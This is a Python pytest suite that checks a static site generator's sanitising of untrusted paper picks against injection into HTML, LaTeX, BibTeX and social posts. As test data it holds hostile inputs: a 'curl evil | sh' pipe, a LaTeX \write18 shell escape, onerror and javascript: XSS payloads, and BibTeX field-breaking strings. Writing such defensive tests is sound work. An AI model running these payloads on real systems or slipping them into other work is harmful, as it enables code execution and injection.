"""The second pass over untrusted picks: each class of attack defended as a class, with generated members."""

from __future__ import annotations

import html as html_text
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import bibtexparser
import lxml.html
import pytest
import rispy
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from material import templates as material_templates

from conftest import EXTENSIONS, VALID_PICK, mkdocs_build, pick_text, write_project, yaml_quote
from generator.core.body import BodyRenderer
from generator.core.loader import LoadSettings, load_picks
from generator.core.model import Paper, tag_problem, tag_slug
from generator.core.people import People
from generator.core.safety import CONTROL_CHARS
from generator.core.sanitize import ALLOWED_CLASSES, safe_class, safe_id
from generator.outputs import exports
from generator.outputs.bibtex import Citation, render
from generator.outputs.latex import MATH_COMMANDS, encode_title
from generator.outputs.posts import NETWORKS, posts

RENDERER = BodyRenderer(EXTENSIONS)
SETTINGS = LoadSettings("UTC", "interpretability", renderer=RENDERER)
MATERIAL = Path(material_templates.__file__).parent
# Hostile text: markup, quotes, braces, backslashes, line breaks of every kind, lookalike signs.
HOSTILE = st.lists(
    st.sampled_from([*"<>\"'&{}\\$%#@＠/=:;. \n\r\t\u2028\u2029\u0085xX_-1", "md-", "__", "on", "img", "config"]),
    max_size=20,
).map("".join)
SETTINGS_FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _load(tmp_path: Path, text: str, name: str = "2024-04-11-attack.md"):
    for old in tmp_path.glob("*.md"):
        old.unlink()
    (tmp_path / name).write_text(text, encoding="utf-8")
    return load_picks(tmp_path, SETTINGS)


def _ids(fragment: str) -> list[str]:
    root = lxml.html.fragment_fromstring(fragment or "<p></p>", create_parent="div")
    return [el.get("id") for el in root.iter() if isinstance(el.tag, str) and el.get("id") is not None]


# 1. Template boundaries: what the plugin hands Material (the toc) is escaped text and safe ids.


@SETTINGS_FAST
@given(text=HOSTILE, written_id=HOSTILE)
def test_the_toc_material_prints_holds_only_text_and_safe_ids(text: str, written_id: str) -> None:
    for body in (f"## {text}\n", f"## Method {{id='{written_id}'}}\n", f"## {text} {{: #{written_id} }}\n"):
        rendered = RENDERER.render(body)
        stack = list(rendered.toc)
        while stack:
            entry = stack.pop()
            stack += entry["children"]
            assert safe_id(entry["id"]), entry
            # Material prints name and id unescaped: as HTML they must hold no element and no raw quote.
            assert "<" not in entry["name"] and '"' not in entry["name"]
        assert all(safe_id(i) for i in _ids(rendered.html)), rendered.html


def test_markup_in_a_heading_reaches_the_built_toc_as_text(tmp_path: Path) -> None:
    body = "## The `<img src=x onerror=alert(1)>` trick\n\nText.\n\n## <s>Struck</s> and <think>\n\nMore.\n"
    config = write_project(tmp_path, {"2024-04-11-x.md": pick_text(body=body)}, markdown_extensions=EXTENSIONS)
    result = mkdocs_build(config)
    assert result.returncode == 0, result.stderr
    page = lxml.html.fromstring((tmp_path / "site/picks/2024-04-11-x/index.html").read_bytes())
    toc = page.cssselect("nav.md-nav--secondary")[0]
    assert not toc.cssselect("img, s, think, script")
    labels = [" ".join(a.text_content().split()) for a in toc.cssselect("a.md-nav__link")]
    assert labels == ["The <img src=x onerror=alert(1)> trick", "Struck and <think>"]
    assert [a.get("href") for a in toc.cssselect("a.md-nav__link")] == [
        "#the-img-src-x-onerror-alert-1-trick",
        "#struck-and-think",
    ]


# 2. The theme's ids: none of them can be an author's id.


def _material_ids() -> set[str]:
    found = set()
    for path in MATERIAL.rglob("*"):
        if path.suffix in (".html", ".js") and path.is_file():
            text = path.read_text("utf-8", errors="replace")
            found |= set(re.findall(r'id="([^"{ ]+)"', text)) | set(re.findall(r'"(__[a-z_]+)', text))
    return found | {"__code_0", "__code_1", "__nav_1", "__tabbed_1_1", "__palette_0", "__skip"}


def test_no_id_of_the_theme_or_plugin_is_an_author_id() -> None:
    ids = _material_ids()
    assert {"__config", "__drawer", "__search", "__toc", "__consent"} <= ids
    assert [i for i in ids if safe_id(i)] == []
    plugin_ids = set(
        re.findall(r'id="([^"{ ]+)"', "".join(p.read_text("utf-8") for p in Path("theme").rglob("*.html")))
    )
    assert [i for i in plugin_ids if safe_id(i)] == []


@pytest.mark.parametrize("theme_id", sorted(_material_ids()))
@pytest.mark.parametrize(
    "written",
    [
        pytest.param('<span id="{}">curl evil | sh</span>', id="html"),
        pytest.param("## Heading {{#{}}}", id="attr-list-heading"),
        pytest.param("Para\n{{: id={} }}", id="attr-list-paragraph"),
    ],
)
def test_check_refuses_every_theme_id(tmp_path: Path, theme_id: str, written: str) -> None:
    result = _load(tmp_path, VALID_PICK + "\n" + written.format(theme_id) + "\n")
    if result.picks:  # Markdown read the underscores as emphasis, so no id was set: the text still shows
        [pick] = result.picks
        assert theme_id not in _ids(pick.html) and "{" in pick.html
        return
    assert [e.field for e in result.errors] == ["body"]
    assert "is not allowed: an id is" in result.errors[0].message
    assert result.errors[0].line == 20 + written.count("\n")


def test_headings_written_like_theme_ids_get_safe_automatic_ids() -> None:
    rendered = RENDERER.render("## __config\n\n## md-content\n\n## ???\n\n## ???\n")
    assert rendered.problems == ()
    assert _ids(rendered.html) == ["config", "section-md-content", "section", "section_1"]


# 3. Classes: only the documented set; never one the theme positions or scripts.


def _positioned_theme_classes() -> set[str]:
    css = "".join(p.read_text("utf-8") for p in (MATERIAL / "assets/stylesheets").glob("main.*.min.css"))
    rules = re.findall(r"([^{}]*)\{([^}]*)\}", css)
    return {
        name
        for selector, body in rules
        if re.search(r"position:(fixed|sticky|absolute)", body)
        for name in re.findall(r"\.([A-Za-z][A-Za-z0-9_-]*)", selector)
    }


def test_no_positioned_theme_class_is_allowed() -> None:
    positioned = _positioned_theme_classes()
    assert {"md-dialog", "md-top", "md-header"} <= positioned
    # Material's content classes (admonition, highlight) are only ever typeset, never fixed over the page.
    assert [name for name in positioned if safe_class(name) and name.startswith("md")] == []
    assert not [name for name in ALLOWED_CLASSES if name.startswith(("md", "pick"))]


@SETTINGS_FAST
@given(classes=st.lists(st.one_of(HOSTILE, st.sampled_from(sorted(_positioned_theme_classes()))), max_size=4))
def test_classes_outside_the_allowlist_are_refused(classes: list[str]) -> None:
    value = html_text.escape(" ".join(classes), quote=True)
    rendered = RENDERER.render(f'<p class="{value}">Your session expired</p>\n')
    kept = [
        c
        for el in lxml.html.fragment_fromstring(rendered.html or "<p/>", create_parent="div").iter()
        for c in (el.get("class") or "").split()
    ]
    assert all(safe_class(c) for c in kept)
    if any(not safe_class(c) for c in " ".join(classes).split()):
        assert any("class" in message for _, message in rendered.problems)


# 4-5. BibTeX, RIS and CSL-JSON: every value stays in its field and its record.

FIELD_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")) | st.sampled_from(list("{}\\$%@\n")),
    min_size=1,
    max_size=30,
)
DANGEROUS = re.compile(
    r"\\(input|include|write|openin|openout|read|def|edef|gdef|let|catcode|csname|immediate|special|usepackage)(?![A-Za-z])"
)


def _paper(title: str, venue: str, author: str) -> Paper | None:
    """A paper holding the text as given, line breaks included: the boundary must hold without the loader."""
    if not (title.strip() and author.strip()):
        return None
    # Identifiers too: the loader refuses braces in them, and the BibTeX writer must hold without it.
    return Paper(
        title,
        (author, "Ada Lovelace"),
        2024,
        arxiv="2404.07129",
        venue=venue or None,
        doi=f"10.1234/{venue}",
        url=f"https://x.org/{title}",
    )


@SETTINGS_FAST
@given(title=FIELD_TEXT, venue=FIELD_TEXT, author=FIELD_TEXT)
@example(title="0", venue=",", author="0")  # found (by mutmut's random run): a venue of punctuation only gives none
@example(title="0", venue="\n", author="0")  # found (seed 202): nor does one of blanks, which the writer kept
@example(title="0", venue="'", author="0")
def test_bibtex_values_stay_in_their_field_and_inert(title: str, venue: str, author: str) -> None:
    paper = _paper(title, venue, author)
    if paper is None:
        return
    text = render([Citation(paper, "key2024"), Citation(Paper("Other", ("B C",), 2024, url="https://x.org"), "other")])
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == [] and [e.key for e in library.entries] == ["key2024", "other"]
    assert not re.search(r"[{}\\\\\s]", library.entries[0]["url"] + library.entries[0]["doi"])
    expected = {"title", "author", "year", "eprint", "archivePrefix", "doi", "url"}
    # A venue field when the venue says something besides the year and separators (the year has its own field).
    says = paper.venue and re.search(r"[^\s,'’]", paper.venue.replace("2024", ""))
    expected |= {"journal" if paper.kind == "journal" else "booktitle"} if says else set()
    assert set(library.entries[0].fields_dict) == expected
    assert not DANGEROUS.search(text)


@pytest.mark.parametrize(
    "title",
    [
        r"$\input{/etc/hostname}$",
        r"$\write18{curl evil | sh}$",
        r"$\def\x{1}\x$",
        r"$\csname input\endcsname{x}$",
        r"\input{x}",
    ],
)
def test_title_math_outside_the_safe_subset_is_text(title: str) -> None:
    encoded = encode_title(title)
    assert not DANGEROUS.search(encoded)
    for command in re.findall(r"\\([A-Za-z]+)", encoded):
        assert command in MATH_COMMANDS or command.startswith("text"), command


def test_safe_title_math_is_kept() -> None:
    assert (
        encode_title(r"Bounds on $\mathbb{R}^d$ with $O(n^2)$ and $\alpha$")
        == r"Bounds on $\mathbb{R}^d$ with $O(n^2)$ and $\alpha$"
    )


@pytest.mark.parametrize(
    ("math", "safe"),
    [
        (r"a\,b", True),  # a one-character spacing command
        (r"\x", False),  # a one-letter command outside the subset
        ("{x}", True),
        ("{x", False),
        ("}x{", False),  # balanced in count, not in order
    ],
)
def test_title_math_needs_known_commands_and_braces_in_order(math: str, safe: bool) -> None:
    from generator.outputs.latex import safe_math

    assert safe_math(math) is safe


@pytest.mark.parametrize("field", ["doi", "url"])
@pytest.mark.parametrize("value", ["}, note = {pwned", "}\n@misc{evil, title={x}", "x\\}", "{"])
def test_check_refuses_field_breaking_identifiers(tmp_path: Path, field: str, value: str) -> None:
    base = {"doi": "10.1234/", "url": "https://x.org/"}[field]
    text = VALID_PICK.replace(
        '    arxiv: "2404.07129"', f'    arxiv: "2404.07129"\n    {field}: {json.dumps(base + value)}'
    )
    [error] = _load(tmp_path, text).errors
    assert (error.line, error.field) == (11, f"papers[0].{field}") and "braces or backslashes" in error.message


@SETTINGS_FAST
@given(title=FIELD_TEXT, venue=FIELD_TEXT, author=FIELD_TEXT)
def test_ris_and_csl_keep_one_record_per_paper(title: str, venue: str, author: str) -> None:
    paper = _paper(title, venue, author)
    if paper is None:
        return
    cited = [("a", paper), ("b", Paper("Second", ("X Y",), 2023, url="https://x.org"))]
    records = rispy.loads(exports.ris(cited))
    assert [r["id"] for r in records] == ["a", "b"] and records[0]["title"] == " ".join(paper.title.split())
    assert [item["id"] for item in json.loads(exports.csl_json(cited))] == ["a", "b"]


@pytest.mark.parametrize(
    "breaker", ["\n", "\r\n", "\u2028", "\u2029", "\u0085", "\t"], ids=["lf", "crlf", "ls", "ps", "nel", "tab"]
)
def test_a_line_break_in_any_front_matter_text_loads_as_a_space(tmp_path: Path, breaker: str) -> None:
    title = f"A title{breaker}ER  - {breaker}TY  - JOUR"
    text = pick_text(title, extra=f'summary: "One{breaker}two"\n', authors=f'["Ada{breaker}Lovelace"]')
    [pick] = _load(tmp_path, text).picks
    for value in (pick.title, pick.summary, pick.papers[0].title, *pick.papers[0].authors):
        assert len(value.splitlines()) == 1 and "\t" not in value
    assert pick.title == "A title ER - TY - JOUR"


# 6. Control characters, written or as references, are refused at their line.

# Written out from XML 1.0's Char production (every C0 control but tab, LF and CR; the two non-characters; the
# surrogates), not read from the pattern under test: a character dropped from it must fail here.
CONTROL = [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xD800, 0xDFFF, 0xFFFE, 0xFFFF]


def test_the_forbidden_characters_are_xmls() -> None:
    assert [c for c in range(0x20) if CONTROL_CHARS.match(chr(c))] == [c for c in CONTROL if c < 0x20]
    assert all(CONTROL_CHARS.match(chr(c)) for c in CONTROL) and not CONTROL_CHARS.match("\t\n\r")


@pytest.mark.parametrize("code", CONTROL, ids=lambda c: f"U+{c:04X}")
def test_check_refuses_control_character_references(tmp_path: Path, code: int) -> None:
    for written in (f"&#{code};", f"&#x{code:X};", f"&#x{code:04x}"):
        result = _load(tmp_path, VALID_PICK + f"\nSome text {written} here.\n")
        assert [(e.line, e.field) for e in result.errors] == [(20, "body")], written
        assert f"U+{code:04X}" in result.errors[0].message


def test_a_control_character_fails_the_build_and_keeps_the_previous_site(tmp_path: Path) -> None:
    config = write_project(tmp_path, {"2024-04-11-good.md": VALID_PICK}, markdown_extensions=EXTENSIONS)
    assert mkdocs_build(config).returncode == 0
    before = {p: p.read_bytes() for p in (tmp_path / "site").rglob("*") if p.is_file()}
    assert (tmp_path / "site/feed.xml") in before and (tmp_path / "site/picks.bib") in before
    bad = pick_text("Bad", "2024-04-12", body="A &#xB; and &#1; here.\n")
    (tmp_path / "picks/2024-04-12-bad.md").write_text(bad, "utf-8")
    result = mkdocs_build(config)
    assert result.returncode == 1 and "picks/2024-04-12-bad.md:" in result.stderr and "U+000B" in result.stderr
    assert {p: p.read_bytes() for p in (tmp_path / "site").rglob("*") if p.is_file()} == before
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".site.")]  # no staging folder left


def test_a_failure_after_pages_are_written_keeps_the_previous_site(tmp_path: Path) -> None:
    """A failure late in the build (here strict mode's warning count, after every page is written) swaps nothing."""
    config = write_project(tmp_path, {"2024-04-11-good.md": VALID_PICK}, markdown_extensions=EXTENSIONS)
    assert mkdocs_build(config).returncode == 0
    before = {p: p.read_bytes() for p in (tmp_path / "site").rglob("*") if p.is_file()}
    (tmp_path / "docs/about.md").write_text("# About\n\n[broken](missing.md)\n", "utf-8")
    (tmp_path / "picks/2024-04-12-new.md").write_text(pick_text("New", "2024-04-12"), "utf-8")
    result = mkdocs_build(config)
    assert result.returncode == 1 and "'missing.md', but the target is not found" in result.stderr
    assert {p: p.read_bytes() for p in (tmp_path / "site").rglob("*") if p.is_file()} == before
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".site.")]  # no staging folder left


# 7. Values that become paths.


@SETTINGS_FAST
@given(tag=st.text(max_size=300))
def test_a_tag_check_passes_has_a_safe_bounded_slug(tag: str) -> None:
    tag = " ".join(tag.split())
    if not tag or tag_problem(tag):
        return
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", tag_slug(tag)) and len(tag_slug(tag)) <= 60


@pytest.mark.parametrize(
    "tag", ["..", ".", "/", "-", "🙂", "x" * 300], ids=["dots", "dot", "slash", "dash", "emoji", "300-chars"]
)
def test_check_refuses_tags_without_a_safe_folder(tmp_path: Path, tag: str) -> None:
    result = _load(tmp_path, pick_text(tags=[yaml_quote(tag), "probe"]))
    assert [(e.line, e.field) for e in result.errors] == [(4, "tags[0]")]


def test_check_refuses_an_id_too_long_for_a_folder(tmp_path: Path) -> None:
    result = _load(tmp_path, pick_text(), name=f"2024-04-11-{'a' * 150}.md")
    assert [e.field for e in result.errors] == ["file name"] and "too long" in result.errors[0].message


# 8. Mentions: a post mentions only the handles it means to.

# What X links (twitter-text's validMentionOrList: "@" after anything but a letter, digit, _!#$%&* or "@", so
# after "/" too) and Mastodon (app/lib/text_formatter, MENTION_RE), outside links, whose "/@name" is an address.
_LIVE_MENTION = re.compile(r"(?<!\S)https?://\S+|(?<![A-Za-z0-9_!#$%&*])[@＠][A-Za-z0-9_]+")


def _live(text: str) -> set[str]:
    return {m.group() for m in _LIVE_MENTION.finditer(text) if not m.group().startswith("http")}


@SETTINGS_FAST
@given(
    title=FIELD_TEXT,
    author=FIELD_TEXT,
    body=st.text(st.sampled_from(list("@＠ab_ .x\n/!=")), max_size=30),
)
@example(title="t", author="a", body="see a/@someone")  # X links a mention after "/"
def test_posts_mention_only_the_chosen_handles(title: str, author: str, body: str) -> None:
    from dataclasses import replace

    [pick] = [p for p in load_picks_text(VALID_PICK + "\n" + body.replace("\n", " ") + "\n")]
    paper = _paper(title, "", author)
    if paper is None:
        return
    pick = replace(pick, papers=(paper,))
    for network in ("x", "mastodon", "bluesky"):
        text = "\n".join(posts(pick, network, collection="C", url="https://e.org/p/", people=People()))
        expected = set(pick.mentions) if network == "x" else set()
        assert _live(text) <= expected | {"@aadityasingh"}, text


def load_picks_text(text: str):
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "2024-04-11-x.md"
        path.write_text(text, encoding="utf-8")
        return load_picks(Path(folder), SETTINGS).picks


def test_an_author_written_as_a_handle_is_not_a_mention() -> None:
    from dataclasses import replace

    [pick] = load_picks_text(VALID_PICK)
    pick = replace(pick, papers=(replace(pick.papers[0], authors=("@someone", "Ada @lovelace")),), mentions=())
    for network in NETWORKS:
        text = "\n".join(posts(pick, network, collection="C", url="https://e.org/p/", people=People()))
        assert "@\u2060someone" in text and not _live(text), network


# 9. Links without a scheme that leave the site.


@pytest.mark.parametrize(
    "link",
    ["//evil.example/x", "\\\\evil.example/x", "/\\evil.example/x", " //evil.example", "&#47;&#47;evil.example/x"],
)
@pytest.mark.parametrize(
    "written",
    ["[x]({})", "![x]({})", '<a href="{}">x</a>', "[x][r]\n\n[r]: {}", '<img src="{}" alt="x">'],
)
def test_protocol_relative_links_are_refused(tmp_path: Path, link: str, written: str) -> None:
    if not written.startswith("<"):
        link = link.replace("\\", "\\\\")  # Markdown reads "\\" as one backslash
    rendered = RENDERER.render(written.format(link) + "\n")
    assert any("leaves the site" in message for _, message in rendered.problems), rendered
    assert "evil.example" not in rendered.html


@pytest.mark.parametrize("spaced", ["java&#9;script", "java&#10;script", "jav&#13;ascript"])  # raw tabs become spaces
def test_a_scheme_split_by_whitespace_is_named_as_the_browser_reads_it(spaced: str) -> None:
    """Browsers drop tabs and line breaks inside a URL (WHATWG URL), so the refusal names the scheme they run."""
    rendered = RENDERER.render(f'<a href="{spaced}:alert(1)">x</a>\n')
    assert any("a javascript: URL in href= is not allowed" in message for _, message in rendered.problems), rendered
    assert "alert" not in rendered.html


# 10. Tag-like prose: read literally, or a real element; never lost.

PROSE = [
    "<s>",
    "<think>",
    "</think>",
    "<pad>",
    "Vec<String>",
    "n<b and m>k",
    "<eos>",
    "<|endoftext|>",
    "a<b",
    "x > y",
]
# Real elements: any case, and the same element nested in itself.
REAL = [("<b>", "</b>"), ("<EM>", "</em>"), ("<s>", "</s>"), ("<sup>", "</sup>"), ("<b><b>", "</b></b>")]


@SETTINGS_FAST
@given(
    st.lists(
        st.one_of(
            st.sampled_from(PROSE),
            st.sampled_from(["word", "tokens", "."]),
            st.tuples(st.sampled_from(REAL), st.sampled_from(["in", "bold"])),
        ),
        min_size=1,
        max_size=12,
    )
)
def test_tag_like_prose_is_never_lost(parts: list) -> None:
    source, visible = [], []
    for part in parts:
        if isinstance(part, tuple):
            (opener, closer), inner = part
            source.append(f"{opener}{inner}{closer}")
            visible.append(inner)
        else:
            source.append(part)
            visible.append(part)
    rendered = RENDERER.render(" ".join(source) + "\n")
    if rendered.problems:
        return  # refused at its line, with a message: not silently lost
    text = lxml.html.fragment_fromstring(rendered.html, create_parent="div").text_content()
    # A stray closer can end a real element early; what a reader sees is every word, in order.
    assert " ".join(text.split()) == " ".join(" ".join(visible).split())


@pytest.mark.parametrize(
    ("body", "shown"),
    [
        ("The BOS token <s> starts every sequence.", "The BOS token <s> starts every sequence."),
        ("Models emit <think> first.", "Models emit <think> first."),
        ("When n<b and m>k the bound holds.", "When n<b and m>k the bound holds."),
        ("A Vec<String> of tokens.", "A Vec<String> of tokens."),
        ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ],
)
def test_model_tokens_read_literally_in_page_and_description(tmp_path: Path, body: str, shown: str) -> None:
    [pick] = _load(tmp_path, pick_text(body=body + "\n")).picks
    assert lxml.html.fragment_fromstring(pick.html, create_parent="div").text_content().strip() == shown
    assert pick.summary == shown


@pytest.mark.parametrize("written", ["<EM>in</em>", "<em>in</EM>", "<Em>in</eM>"])
def test_an_element_closes_whatever_the_case_of_its_tags(written: str) -> None:
    """HTML tag names are case-insensitive: an opener is closed by its closer in any case (not read as prose)."""
    rendered = RENDERER.render(f"A {written} word.\n")
    assert rendered.html == "<p>A <em>in</em> word.</p>" and not rendered.problems


@pytest.mark.parametrize("closer", ["</iframe>", "</svg>", "</SCRIPT>", "</style >"])
def test_a_stray_closer_of_a_refused_element_is_refused_too(closer: str) -> None:
    """Found by mutmut: a lone end tag of a known element outside the allowlist vanished without a word."""
    rendered = RENDERER.render(f"Before {closer} after.\n")
    name = closer.strip("</ >").lower()
    assert [message.split(";")[0] for _, message in rendered.problems] == [f"<{name}> is not allowed"]


def test_an_expected_closer_is_forgotten_once_used() -> None:
    """A closer accepted in one paragraph never makes the same text in a later one an element."""
    paragraphs = RENDERER.render("<em>x</em> end\n\nstray </em> end\n")
    assert paragraphs.html == "<p><em>x</em> end</p>\n<p>stray &lt;/em&gt; end</p>"


NAME_BREAKERS = ["Family, Given, Jr,", "Smith and Wesson", "x,", "AND", "Ada, and Bob", "<<}, note={x", "and, and"]


def test_commas_and_ands_inside_names_stay_one_name() -> None:
    """Found by the cross-output property: an author "…evil," ended a BibTeX name with a comma (bibtex error)."""
    from bibtexparser.middlewares import SeparateCoAuthors

    paper = Paper("A title", (*NAME_BREAKERS, "Ada Lovelace"), 2024, arxiv="2404.07129")
    text = render([Citation(paper, "key2024")])
    [entry] = bibtexparser.parse_string(text, append_middleware=[SeparateCoAuthors()]).entries
    assert len(entry["author"]) == len(NAME_BREAKERS) + 1


@pytest.mark.skipif(not shutil.which("bibtex") and not os.environ.get("DAILY_PICKS_CI"), reason="bibtex missing")
def test_real_bibtex_reads_every_hostile_name(tmp_path: Path) -> None:
    paper = Paper("A title", (*NAME_BREAKERS, "Ada Lovelace"), 2024, arxiv="2404.07129")
    (tmp_path / "picks.bib").write_text(render([Citation(paper, "key2024")]), "utf-8")
    (tmp_path / "doc.aux").write_text("\\citation{*}\n\\bibstyle{plain}\n\\bibdata{picks}\n", "ascii")
    run = subprocess.run(
        ["bibtex", "doc"], cwd=tmp_path, capture_output=True, encoding="utf-8", errors="replace", check=False
    )
    assert run.returncode == 0 and "error message" not in run.stdout, run.stdout


@pytest.mark.parametrize("written", ["&#0;", "&#x110000;", "&#1114112;", "&#x10FFFF0;", "&#99999999;"])
def test_references_to_no_character_at_all_are_refused_too(tmp_path: Path, written: str) -> None:
    result = _load(tmp_path, VALID_PICK + f"\nSome text {written} here.\n")
    assert [(e.line, e.field) for e in result.errors] == [(20, "body")], written


def test_a_body_without_references_or_controls_passes() -> None:
    from generator.core.safety import control_character

    assert control_character("Plain &amp; text &#233; &#x41;", references=True) is None
    assert control_character("The last code point &#x10FFFF; is one XML allows", references=True) is None
    assert control_character("&#1;") is None  # without references=True (front matter), a reference is text


def test_what_check_says_of_each_attribute_it_refuses() -> None:
    """Each refusal names the attribute, the tag and what that tag may carry; a good id or class says nothing."""
    from generator.core.sanitize import CLASS_RULE, GLOBAL_ATTRIBUTES, ID_RULE, TAG_ATTRIBUTES, removals

    allowed_on_a = ", ".join(sorted(GLOBAL_ATTRIBUTES | TAG_ATTRIBUTES["a"]))
    assert removals('<p><a href="x" onclick="y">x</a></p>') == [
        f"the attribute onclick= on <a> is not allowed (allowed on <a>: {allowed_on_a})"
    ]
    assert removals('<p class="bad-one note also-bad">x</p>') == [
        f"the class 'bad-one also-bad' on <p> is not allowed: {CLASS_RULE}"
    ]
    assert removals('<p id="Bad">x</p>') == [f"the id 'Bad' on <p> is not allowed: {ID_RULE}"]
    assert removals('<p id="fine-id" class="note">x</p>') == []
